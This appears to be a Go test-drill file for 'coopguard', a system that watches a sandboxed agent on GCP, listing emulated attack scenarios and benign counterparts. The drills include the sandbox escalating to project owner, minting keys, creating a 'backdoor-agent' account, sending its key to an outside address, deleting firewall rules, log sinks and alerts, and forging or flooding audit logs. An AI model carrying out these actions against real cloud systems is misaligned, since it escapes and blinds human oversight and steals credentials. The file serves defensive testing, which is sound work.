package attack

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"time"

	"cloud.google.com/go/compute/apiv1/computepb"
	"cloud.google.com/go/iam/admin/apiv1/adminpb"
	"cloud.google.com/go/iam/apiv1/iampb"
	"cloud.google.com/go/logging/apiv2/loggingpb"
	"cloud.google.com/go/monitoring/apiv3/v2/monitoringpb"
	"cloud.google.com/go/secretmanager/apiv1/secretmanagerpb"
	"github.com/googleapis/gax-go/v2/apierror"
	"google.golang.org/genproto/googleapis/api/monitoredres"
	auditpb "google.golang.org/genproto/googleapis/cloud/audit"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/anypb"
	"google.golang.org/protobuf/types/known/fieldmaskpb"

	"github.com/cloudcoop/coopguard/functions/respond"
	"github.com/cloudcoop/coopguard/provisioner"
	"github.com/cloudcoop/coopguard/test/emulator"
	"github.com/cloudcoop/coopguard/test/emulator/cloudnat"
	"github.com/cloudcoop/coopguard/test/emulator/resourcemanager"
)

// Kind says what coopguard must do about a scenario.
type Kind string

// The kinds of scenario.
const (
	// Attack: coopguard contains the sandbox (VM TERMINATED, every
	// managed key version disabled).
	Attack Kind = "attack"
	// Benign: everything stays as it was (VM RUNNING, versions ENABLED,
	// no incident).
	Benign Kind = "benign"
	// Notify: someone other than the sandbox changed coopguard's
	// defences; coopguard reports it (a notify incident) and leaves the
	// sandbox as it was, for the next converge to repair.
	Notify Kind = "notify"
	// Forged: the sandbox writes what only GCP may say; coopguard must not
	// believe it, so everything stays as it was.
	Forged Kind = "forged"
)

// Scenario is one drill: the API calls of one principal.
type Scenario struct {
	// Name is what `coopguard drill --attack NAME` takes.
	Name string
	Kind Kind
	// Actor is who makes the calls.
	Actor string
	// Summary says what the calls are.
	Summary string
	// Counterpart names the scenario of the other kind it pairs with.
	Counterpart string
	// Setup, when set, brings the sandbox to where the drill starts (by
	// the same real calls); without it the sandbox starts intact.
	Setup func(ctx context.Context, w *World) error
	// Act makes the calls. It fails only when the API answers otherwise
	// than GCP would (a refusal the scenario expects is no failure).
	Act func(ctx context.Context, w *World) error
}

// ExfilAddress is where the exfiltration drill sends the key: an address
// of the documentation range 198.51.100.0/24 (RFC 5737), outside any VPC.
const ExfilAddress = "198.51.100.23"

// Actors.
const (
	actorSandbox     = "the sandbox's service account"
	actorThief       = "a user allowed to read the key (" + Thief + ")"
	actorOperator    = "the operator"
	actorProvisioner = "coopguard's provisioner"
	actorResponder   = "coopguard's responder"
)

// Scenarios returns every drill, attacks first.
func Scenarios() []Scenario {
	return append([]Scenario{
		{Name: "privilege-escalation", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "makes itself owner of the project: Projects.SetIamPolicy (refused by IAM, audit status 7)",
			Act:     escalate},
		{Name: "secret-policy-grab", Kind: Attack, Actor: actorSandbox, Counterpart: "own-key-read",
			Summary: "grants itself Secret Manager admin on its key, to mint versions: SecretManagerService.SetIamPolicy (refused)",
			Act: func(ctx context.Context, w *World) error {
				s := w.secretName(w.Cfg.Coopguard.Secrets[0])
				_, err := w.Agent.Secrets.SetIamPolicy(ctx, &iampb.SetIamPolicyRequest{Resource: s, Policy: &iampb.Policy{
					Bindings: []*iampb.Binding{{Role: "roles/secretmanager.admin", Members: []string{"serviceAccount:" + w.Cfg.Cloud.GCP.ServiceAccount}}}}})
				return refused(err, "SetIamPolicy on "+s)
			}},
		{Name: "key-minting", Kind: Attack, Actor: actorSandbox, Counterpart: "own-key-read",
			Summary: "mints a key for its own account, to act from outside the VM: IAM CreateServiceAccountKey (refused)",
			Act: func(ctx context.Context, w *World) error {
				c, err := w.agentIAM(ctx)
				if err != nil {
					return err
				}
				name := "projects/" + w.Cfg.Cloud.GCP.Project + "/serviceAccounts/" + w.Cfg.Cloud.GCP.ServiceAccount
				_, err = c.CreateServiceAccountKey(ctx, &adminpb.CreateServiceAccountKeyRequest{Name: name})
				return refused(err, "CreateServiceAccountKey on "+name)
			}},
		{Name: "create-service-account", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "reaches for the cloud: creates a service account of its own with IAM CreateServiceAccount (refused)",
			Act: func(ctx context.Context, w *World) error {
				c, err := w.agentIAM(ctx)
				if err != nil {
					return err
				}
				p := "projects/" + w.Cfg.Cloud.GCP.Project
				_, err = c.CreateServiceAccount(ctx, &adminpb.CreateServiceAccountRequest{Name: p, AccountId: "backdoor-agent"})
				return refused(err, "CreateServiceAccount backdoor-agent in "+p)
			}},
		{Name: "secret-theft", Kind: Attack, Actor: actorThief, Counterpart: "operator-metadata",
			Summary: "reads the sandbox's key: AccessSecretVersion (allowed, so only the Data Access audit log tells)",
			Act: func(ctx context.Context, w *World) error {
				s := w.secretName(w.Cfg.Coopguard.Secrets[0]) + "/versions/latest"
				_, err := w.Thief.Secrets.AccessSecretVersion(ctx, &secretmanagerpb.AccessSecretVersionRequest{Name: s})
				return allowed(err, "AccessSecretVersion on "+s)
			}},
		{Name: "exfiltration", Kind: Attack, Actor: actorSandbox, Counterpart: "own-key-read",
			Summary: "sends its key out of the VM to " + ExfilAddress + ":443 (TCP, through Cloud NAT), then reaches for the decoy secret beside it: AccessSecretVersion",
			Act: func(ctx context.Context, w *World) error {
				if w.Sandbox.Canary == "" {
					return errors.New("no canary secret: coopguard.canary is off")
				}
				key := w.secretName(w.Cfg.Coopguard.Secrets[0]) + "/versions/latest"
				if _, err := w.Agent.Secrets.AccessSecretVersion(ctx, &secretmanagerpb.AccessSecretVersionRequest{Name: key}); err != nil {
					return allowed(err, "AccessSecretVersion on "+key)
				}
				// The key leaves over the VM's only way out: the emulated
				// Cloud NAT records the connection, nothing is sent.
				if _, err := w.Emu.NAT.Connect(ctx, cloudnat.Connection{Project: w.Cfg.Cloud.GCP.Project, Zone: w.Cfg.Cloud.GCP.Zone, Instance: w.Sandbox.Name,
					DestIP: ExfilAddress, DestPort: 443, Protocol: "tcp"}); err != nil {
					return fmt.Errorf("connect to %s:443: %w", ExfilAddress, err)
				}
				s := w.secretName(w.Sandbox.Canary) + "/versions/latest"
				_, err := w.Agent.Secrets.AccessSecretVersion(ctx, &secretmanagerpb.AccessSecretVersionRequest{Name: s})
				return allowed(err, "AccessSecretVersion on "+s)
			}},
		{Name: "canary-read", Kind: Attack, Actor: actorSandbox, Counterpart: "own-key-read",
			Summary: "reads the decoy secret Provision planted beside its key (it may; nothing legitimate ever does): AccessSecretVersion",
			Act: func(ctx context.Context, w *World) error {
				if w.Sandbox.Canary == "" {
					return errors.New("no canary secret: coopguard.canary is off")
				}
				s := w.secretName(w.Sandbox.Canary) + "/versions/latest"
				_, err := w.Agent.Secrets.AccessSecretVersion(ctx, &secretmanagerpb.AccessSecretVersionRequest{Name: s})
				return allowed(err, "AccessSecretVersion on "+s)
			}},
		{Name: "firewall-delete", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "deletes coopguard's deny-ingress firewall rule: firewalls.delete (refused)",
			Act: func(ctx context.Context, w *World) error {
				_, err := w.Agent.Firewalls.Delete(ctx, &computepb.DeleteFirewallRequest{Project: w.Cfg.Cloud.GCP.Project, Firewall: w.Sandbox.FirewallDenyIngress()})
				return refused(err, "firewalls.delete "+w.Sandbox.FirewallDenyIngress())
			}},
		{Name: "firewall-widen", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "opens coopguard's IAP SSH rule to the internet: firewalls.patch sourceRanges 0.0.0.0/0 (refused)",
			Act: func(ctx context.Context, w *World) error {
				_, err := w.Agent.Firewalls.Patch(ctx, &computepb.PatchFirewallRequest{Project: w.Cfg.Cloud.GCP.Project, Firewall: w.Sandbox.FirewallIAPSSH(),
					FirewallResource: &computepb.Firewall{SourceRanges: []string{"0.0.0.0/0"}}})
				return refused(err, "firewalls.patch "+w.Sandbox.FirewallIAPSSH())
			}},
		{Name: "sink-disable", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "disables the log sink that feeds coopguard: ConfigServiceV2.UpdateSink disabled=true (refused)",
			Act: func(ctx context.Context, w *World) error {
				_, err := w.Agent.LogConfig.UpdateSink(ctx, &loggingpb.UpdateSinkRequest{SinkName: w.SinkName(),
					Sink: &loggingpb.LogSink{Name: w.Sandbox.Sink(), Disabled: true}, UpdateMask: &fieldmaskpb.FieldMask{Paths: []string{"disabled"}}})
				return refused(err, "UpdateSink "+w.SinkName())
			}},
		{Name: "sink-delete", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "deletes the log sink: ConfigServiceV2.DeleteSink (refused)",
			Act: func(ctx context.Context, w *World) error {
				err := w.Agent.LogConfig.DeleteSink(ctx, &loggingpb.DeleteSinkRequest{SinkName: w.SinkName()})
				return refused(err, "DeleteSink "+w.SinkName())
			}},
		{Name: "alert-policy-delete", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "deletes coopguard's CPU alert policy: AlertPolicyService.DeleteAlertPolicy (refused)",
			Act: func(ctx context.Context, w *World) error {
				name, err := w.alertPolicy()
				if err != nil {
					return err
				}
				err = w.Agent.AlertPolicies.DeleteAlertPolicy(ctx, &monitoringpb.DeleteAlertPolicyRequest{Name: name})
				return refused(err, "DeleteAlertPolicy "+name)
			}},
		{Name: "channel-delete", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "deletes coopguard's notification channel: NotificationChannelService.DeleteNotificationChannel (refused)",
			Act: func(ctx context.Context, w *World) error {
				name, err := w.channel()
				if err != nil {
					return err
				}
				err = w.Agent.Channels.DeleteNotificationChannel(ctx, &monitoringpb.DeleteNotificationChannelRequest{Name: name, Force: true})
				return refused(err, "DeleteNotificationChannel "+name)
			}},
		{Name: "untag-quarantine", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "strips its VM's network tags, coopguard-quarantine among them: instances.setTags (refused)",
			Act: func(ctx context.Context, w *World) error {
				inst, ok := w.Emu.Compute.Instance(w.Cfg.Cloud.GCP.Project, w.Cfg.Cloud.GCP.Zone, w.Sandbox.Name)
				if !ok {
					return fmt.Errorf("no VM %s", w.Sandbox.Name)
				}
				_, err := w.Agent.Instances.SetTags(ctx, &computepb.SetTagsInstanceRequest{Project: w.Cfg.Cloud.GCP.Project, Zone: w.Cfg.Cloud.GCP.Zone, Instance: w.Sandbox.Name,
					TagsResource: &computepb.Tags{Items: []string{}, Fingerprint: inst.GetTags().Fingerprint}})
				return refused(err, "instances.setTags "+w.Sandbox.Name)
			}},
		{Name: "create-vm", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "reaches for the cloud: creates a VM of its own with instances.insert (refused)",
			Act: func(ctx context.Context, w *World) error {
				zone := w.Cfg.Cloud.GCP.Zone
				_, err := w.Agent.Instances.Insert(ctx, &computepb.InsertInstanceRequest{Project: w.Cfg.Cloud.GCP.Project, Zone: zone, InstanceResource: &computepb.Instance{
					Name:        proto.String("miner"),
					MachineType: proto.String("zones/" + zone + "/machineTypes/e2-standard-4"),
					Disks: []*computepb.AttachedDisk{{Boot: proto.Bool(true), AutoDelete: proto.Bool(true),
						InitializeParams: &computepb.AttachedDiskInitializeParams{SourceImage: proto.String("projects/debian-cloud/global/images/family/debian-12")}}},
					NetworkInterfaces: []*computepb.NetworkInterface{{Network: proto.String("global/networks/default")}},
				}})
				return refused(err, "instances.insert miner")
			}},

		{Name: "operator-firewall-delete", Kind: Notify, Actor: actorOperator, Counterpart: "firewall-delete",
			Summary: "deletes coopguard's deny-ingress firewall rule (allowed): firewalls.delete",
			Act: func(ctx context.Context, w *World) error {
				op, err := w.Operator.Firewalls.Delete(ctx, &computepb.DeleteFirewallRequest{Project: w.Cfg.Cloud.GCP.Project, Firewall: w.Sandbox.FirewallDenyIngress()})
				if err != nil {
					return allowed(err, "firewalls.delete "+w.Sandbox.FirewallDenyIngress())
				}
				return allowed(op.Wait(ctx), "firewalls.delete "+w.Sandbox.FirewallDenyIngress())
			}},
		{Name: "junk-storm", Kind: Attack, Actor: actorSandbox, Counterpart: "forged-audit-entry",
			Summary: "floods Logging with 500 look-alike audit entries (WriteLogEntries, its logWriter role), then makes itself owner: Projects.SetIamPolicy (refused)",
			Act: func(ctx context.Context, w *World) error {
				p := w.Cfg.Cloud.GCP.Project
				payload, err := anypb.New(&auditpb.AuditLog{
					ServiceName: "cloudresourcemanager.googleapis.com", MethodName: "SetIamPolicy", ResourceName: "projects/" + p,
					AuthenticationInfo: &auditpb.AuthenticationInfo{PrincipalEmail: w.Cfg.Cloud.GCP.ServiceAccount},
				})
				if err != nil {
					return err
				}
				// The look-alikes come in batches, as an agent's logging
				// library sends them; the sink must route none of them.
				for batch := 0; batch < 5; batch++ {
					var entries []*loggingpb.LogEntry
					for i := 0; i < 100; i++ {
						entries = append(entries, &loggingpb.LogEntry{
							LogName:  "projects/" + p + "/logs/cloudaudit.googleapis.com%2Factivity" + strconv.Itoa(batch*100+i),
							Resource: &monitoredres.MonitoredResource{Type: "project", Labels: map[string]string{"project_id": p}},
							Payload:  &loggingpb.LogEntry_ProtoPayload{ProtoPayload: payload},
						})
					}
					if _, err := w.Agent.Logging.WriteLogEntries(ctx, &loggingpb.WriteLogEntriesRequest{Entries: entries}); err != nil {
						return allowed(err, "WriteLogEntries")
					}
				}
				return escalate(ctx, w)
			}},
		{Name: "forged-audit-entry", Kind: Forged, Actor: actorSandbox, Counterpart: "operator-metadata",
			Summary: "writes, with its roles/logging.logWriter, an entry under a look-alike audit log name saying the operator read the key: WriteLogEntries",
			Act: func(ctx context.Context, w *World) error {
				p := w.Cfg.Cloud.GCP.Project
				payload, err := anypb.New(&auditpb.AuditLog{
					ServiceName:        "secretmanager.googleapis.com",
					MethodName:         "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion",
					ResourceName:       "projects/" + resourcemanager.NumberOf(p) + "/secrets/" + w.Cfg.Coopguard.Secrets[0] + "/versions/1",
					AuthenticationInfo: &auditpb.AuthenticationInfo{PrincipalEmail: emulator.Operator},
				})
				if err != nil {
					return err
				}
				logName := "projects/" + p + "/logs/cloudaudit.googleapis.com%2Fdata_access_copy"
				_, err = w.Agent.Logging.WriteLogEntries(ctx, &loggingpb.WriteLogEntriesRequest{Entries: []*loggingpb.LogEntry{{
					LogName:  logName,
					Resource: &monitoredres.MonitoredResource{Type: "audited_resource", Labels: map[string]string{"project_id": p, "service": "secretmanager.googleapis.com"}},
					Payload:  &loggingpb.LogEntry_ProtoPayload{ProtoPayload: payload},
				}}})
				if err != nil {
					return allowed(err, "WriteLogEntries")
				}
				if len(w.Emu.Logging.Entries(logName)) == 0 {
					return fmt.Errorf("the look-alike entry is not in %s: the drill proves nothing", logName)
				}
				return nil
			}},
		{Name: "own-key-read", Kind: Benign, Actor: actorSandbox, Counterpart: "secret-theft",
			Summary: "reads its own key, as the agent does at every start: AccessSecretVersion",
			Act: func(ctx context.Context, w *World) error {
				s := w.secretName(w.Cfg.Coopguard.Secrets[0]) + "/versions/latest"
				_, err := w.Agent.Secrets.AccessSecretVersion(ctx, &secretmanagerpb.AccessSecretVersionRequest{Name: s})
				return allowed(err, "AccessSecretVersion on "+s)
			}},
		{Name: "operator-metadata", Kind: Benign, Actor: actorOperator, Counterpart: "secret-theft",
			Summary: "reads the key's metadata, never its payload: GetSecret, GetSecretVersion",
			Act: func(ctx context.Context, w *World) error {
				s := w.secretName(w.Cfg.Coopguard.Secrets[0])
				if _, err := w.Operator.Secrets.GetSecret(ctx, &secretmanagerpb.GetSecretRequest{Name: s}); err != nil {
					return allowed(err, "GetSecret "+s)
				}
				_, err := w.Operator.Secrets.GetSecretVersion(ctx, &secretmanagerpb.GetSecretVersionRequest{Name: s + "/versions/latest"})
				return allowed(err, "GetSecretVersion "+s+"/versions/latest")
			}},
		{Name: "converge", Kind: Benign, Actor: actorProvisioner, Counterpart: "firewall-delete",
			Summary: "converges the sandbox again (Provision): reads and repairs every resource it made",
			Act: func(ctx context.Context, w *World) error {
				if _, err := w.Env.Provisioner.Converge(ctx, provisioner.Options{}); err != nil {
					return fmt.Errorf("converge: %w", err)
				}
				return nil
			}},
		{Name: "restore", Kind: Benign, Actor: actorResponder, Counterpart: "privilege-escalation",
			Summary: "undoes a containment (resolve --restore after privilege-escalation): re-enables the key, clears the agents' flag, starts the VM",
			Setup: func(ctx context.Context, w *World) error {
				s, err := Find("privilege-escalation")
				if err != nil {
					return err
				}
				r, err := Run(ctx, w, s, RunOptions{})
				if err != nil {
					return err
				}
				if !r.Passed() || len(r.Incidents) != 1 {
					return fmt.Errorf("privilege-escalation did not contain the sandbox once (%s, %d incidents)", r.After, len(r.Incidents))
				}
				w.lastIncident = r.Incidents[0].Incident.ID
				return nil
			},
			Act: func(ctx context.Context, w *World) error {
				rep, err := w.Env.Restorer.Resolve(ctx, w.lastIncident, respond.ResolveOptions{Restore: true, By: emulator.Operator})
				if err != nil {
					return fmt.Errorf("resolve --restore %s: %w", w.lastIncident, err)
				}
				if rep.Failed() {
					return fmt.Errorf("resolve --restore %s: an undo action failed: %+v", w.lastIncident, rep.Actions)
				}
				return nil
			}},
		{Name: "rotation", Kind: Benign, Actor: actorResponder, Counterpart: "secret-policy-grab",
			Summary: "runs the rotation Secret Manager's SECRET_ROTATE asks for when the key's rotation time comes (RotateKeys)",
			Act: func(ctx context.Context, w *World) error {
				// Time passes until the rotation Provision scheduled is due;
				// Secret Manager notifies, Eventarc delivers to RotateKeys.
				n0 := w.rotateDeliveries.Load()
				w.Emu.Clock.Advance(w.Cfg.Coopguard.Rotation.MaxAge.Duration + time.Hour)
				if fired := w.Emu.SecretManager.FireDueRotations(ctx); len(fired) == 0 {
					return errors.New("no secret's rotation came due: did Provision schedule rotation?")
				}
				for w.rotateDeliveries.Load() == n0 {
					select {
					case <-ctx.Done():
						return fmt.Errorf("RotateKeys never received the SECRET_ROTATE notification: %w", ctx.Err())
					case <-time.After(poll):
					}
				}
				return nil
			}},
	}, append(append(append(originScenarios(), catalogueScenarios()...), moreCatalogueScenarios()...), append(append(pubsubScenarios(), wifScenarios()...), append(append(append(append(osconfigScenarios(), catalogueScenarios2()...), mirrorScenarios()...), functionsScenarios()...), append(append(append(routeScenarios(), roleScenarios()...), copyScenarios()...), lastScenarios()...)...)...)...)...)
}

// Find returns the scenario called name.
func Find(name string) (Scenario, error) {
	var names []string
	for _, s := range Scenarios() {
		if s.Name == name {
			return s, nil
		}
		names = append(names, s.Name)
	}
	return Scenario{}, fmt.Errorf("no attack drill %q: use one of %s (or list)", name, strings.Join(names, ", "))
}

// alertPolicy and channel return the names of coopguard's alert policy and
// notification channel: an agent finds them by their display names.
func (w *World) alertPolicy() (string, error) {
	for _, p := range w.Emu.Monitoring.AlertPolicies(w.Cfg.Cloud.GCP.Project) {
		if p.GetDisplayName() == w.Sandbox.AlertPolicyName() {
			return p.GetName(), nil
		}
	}
	return "", fmt.Errorf("no alert policy %q: did Provision run?", w.Sandbox.AlertPolicyName())
}

func (w *World) channel() (string, error) {
	for _, c := range w.Emu.Monitoring.NotificationChannels(w.Cfg.Cloud.GCP.Project) {
		if c.GetDisplayName() == w.Sandbox.ChannelName() {
			return c.GetName(), nil
		}
	}
	return "", fmt.Errorf("no notification channel %q: did Provision run?", w.Sandbox.ChannelName())
}

// refused checks that IAM refused the call, as GCP does for the sandbox's
// least-privilege account: gRPC PERMISSION_DENIED or HTTP 403.
func refused(err error, call string) error {
	if err == nil {
		return fmt.Errorf("%s succeeded; the emulated IAM should have refused it", call)
	}
	if isDenied(err) {
		return nil
	}
	return fmt.Errorf("%s: want a refusal (permission denied), got: %w", call, err)
}

// allowed checks that the call succeeded.
func allowed(err error, call string) error {
	if err != nil {
		return fmt.Errorf("%s: %w", call, err)
	}
	return nil
}

func isDenied(err error) bool {
	if status.Code(err) == codes.PermissionDenied {
		return true
	}
	var ae *apierror.APIError
	return errors.As(err, &ae) && (ae.HTTPCode() == http.StatusForbidden || ae.GRPCStatus().Code() == codes.PermissionDenied)
}

// escalate is the agent making itself owner of the project with
// Projects.SetIamPolicy, which IAM refuses.
func escalate(ctx context.Context, w *World) error {
	p := "projects/" + w.Cfg.Cloud.GCP.Project
	_, err := w.Agent.Projects.SetIamPolicy(ctx, &iampb.SetIamPolicyRequest{Resource: p, Policy: &iampb.Policy{
		Bindings: []*iampb.Binding{{Role: "roles/owner", Members: []string{"serviceAccount:" + w.Cfg.Cloud.GCP.ServiceAccount}}}}})
	return refused(err, "Projects.SetIamPolicy on "+p)
}
